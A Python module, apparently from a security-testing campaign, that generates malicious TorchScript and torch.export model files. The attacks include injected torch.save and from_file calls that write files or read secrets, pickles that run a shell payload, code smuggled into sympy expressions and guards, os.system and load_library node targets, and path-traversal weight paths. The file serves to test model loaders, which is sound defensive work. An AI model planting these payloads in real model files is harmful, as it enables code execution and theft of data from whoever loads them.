"""Attacks in TorchScript and ``torch.export`` files."""

from __future__ import annotations

import json
import pickle
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

from campaign import mutation
from campaign.attacks.attack import Attack, Members, Pickled, Place, members_of


def _script(name: str, body: str = "", *, edit: Callable[[Place, Members], object] | None = None) -> Attack:
    """TorchScript whose ``forward`` begins with ``body``."""

    def make(place: Place) -> Path:
        members = members_of(place.originals / "good.pt")
        [code] = [member for member in members if member.endswith("container.py")]
        line = body.replace("TARGET", str(place.target)).replace("SECRET", str(place.secret))
        text = members[code].decode()
        start = re.search(r"-> Tensor:\n", text)
        assert start
        text = text[: start.end()] + (f"    {line}\n" if line else "") + text[start.end() :]
        members[code] = text.encode()
        members = {key: data for key, data in members.items() if not key.endswith(".debug_pkl")}
        if edit:
            edit(place, members)
        path = place.folder / f"{name}.pt"
        path.write_bytes(mutation.zipped(list(members.items())))
        return path

    return Attack(name, make, "torch", ("x=1x3x8x8",))


def _root(members: Members) -> str:
    return next(iter(members)).partition("/")[0]


def _evil(place: Place) -> bytes:
    return pickle.dumps(Pickled(place.shell), 2)


SCRIPTS = [
    _script("ts-save", '_s = torch.save(input, "TARGET")'),
    _script("ts-save-by-its-namespace", '_s = ops.aten.save(input, "TARGET")'),
    _script("ts-from-file", 'input = torch.add(input, ops.aten.from_file("SECRET", False, 1, dtype=0))'),
    _script("ts-from-file-shared", 'input = torch.add(input, torch.from_file("TARGET", True, 2))'),
    _script("ts-namespace-handed-on", "_s = ops.aten"),
    _script("ts-save-in-a-string-that-ends-early", '_s = "a\\\\"; _t = torch.save(input, "TARGET")'),
    _script("ts-rpc", '_s = rpc_async("w", input)'),
    _script("ts-class-of-cpp", "_s = __torch__.torch.classes.quantized.Conv2dPackedParamsBase()"),
    _script("ts-pickled-data", edit=lambda p, m: m.update({f"{_root(m)}/data.pkl": _evil(p)})),
    _script("ts-pickled-constants", edit=lambda p, m: m.update({f"{_root(m)}/constants.pkl": _evil(p)})),
    _script("ts-pickled-debug", edit=lambda p, m: m.update({f"{_root(m)}/code/__torch__/x.py.debug_pkl": _evil(p)})),
]


def _program(name: str, edit: Callable[[Place, dict[str, Any], Members], object]) -> Attack:
    def make(place: Place) -> Path:
        members = members_of(place.originals / "good.pt2")
        model = f"{_root(members)}/models/model.json"
        document = json.loads(members[model])
        edit(place, document, members)
        members[model] = json.dumps(document).encode()
        path = place.folder / f"{name}.pt2"
        path.write_bytes(mutation.zipped(list(members.items())))
        return path

    return Attack(name, make, "torch")


def _everywhere(document: Any, key: str, value: Any) -> None:
    todo = [document]
    while todo:
        found = todo.pop()
        if isinstance(found, dict):
            if key in found:
                found[key] = value
            todo += found.values()
        elif isinstance(found, list):
            todo += found


def _nodes(document: dict[str, Any]) -> list[Any]:
    return document["graph_module"]["graph"]["nodes"]


def _calls_file(place: Place, document: dict[str, Any], members: Members) -> None:
    arguments = [
        {"name": "filename", "arg": {"as_string": str(place.secret)}, "kind": 1},
        {"name": "shared", "arg": {"as_bool": False}, "kind": 1},
        {"name": "size", "arg": {"as_int": 1}, "kind": 1},
    ]
    first = _nodes(document)[0]
    output = [{"as_tensor": {"name": "stolen"}}]
    new = {**first, "target": "torch.ops.aten.from_file.default", "inputs": arguments, "outputs": output}
    _nodes(document).insert(0, new)
    graph = document["graph_module"]["graph"]
    graph["tensor_values"]["stolen"] = next(iter(graph["tensor_values"].values()))


def _payloads(document: Any, members: Members, **changes: Any) -> None:
    [config] = [name for name in members if name.endswith("model_weights_config.json")]
    found = json.loads(members[config])
    for entry in found["config"].values():
        entry |= changes
    members[config] = json.dumps(found).encode()


def _pickled_weights(place: Place, document: dict[str, Any], members: Members) -> None:
    _payloads(document, members, use_pickle=True, path_name="weight_0")
    members[f"{_root(members)}/data/weights/weight_0"] = _evil(place)


PROGRAMS = [
    _program("pt2-size", lambda p, d, m: _everywhere(d, "expr_str", f"Symbol('s0') + {p.code}[0]")),
    _program("pt2-size-through-sympify", lambda p, d, m: _everywhere(d, "expr_str", f"sympify(\"{p.code}\")")),
    _program("pt2-range-of-an-expression", lambda p, d, m: d.update(range_constraints={p.code: {"min_val": 1, "max_val": 9}})),
    _program("pt2-guard", lambda p, d, m: d.update(guards_code=[f"L['input'].size()[0] > 0 and {p.code}"])),
    _program("pt2-reads-a-file", _calls_file),
    _program("pt2-calls-os", lambda p, d, m: _nodes(d)[0].update(target="os.system")),
    _program("pt2-calls-a-library", lambda p, d, m: _nodes(d)[0].update(target="torch.ops.load_library")),
    _program("pt2-container", lambda p, d, m: _everywhere(d, "in_spec", json.dumps([1, {"type": "os.system", "context": json.dumps(p.shell), "children_spec": []}]))),
    _program("pt2-name-with-code", lambda p, d, m: _everywhere(d, "name", f"x\n    {p.code}\n    y")),
    _program("pt2-pickled-weights", _pickled_weights),
    _program("pt2-weights-outside", lambda p, d, m: _payloads(d, m, path_name=f"../../../../..{p.secret}")),
    _program("pt2-pickled-inputs", lambda p, d, m: m.update({f"{_root(m)}/data/sample_inputs/model.pt": mutation.zipped([("m/data.pkl", _evil(p)), ("m/version", b"3\n")])})),
    _program("pt2-compiled", lambda p, d, m: m.update({f"{_root(m)}/data/aotinductor/model/model.so": b"\x7fELF"})),
]  # fmt: skip
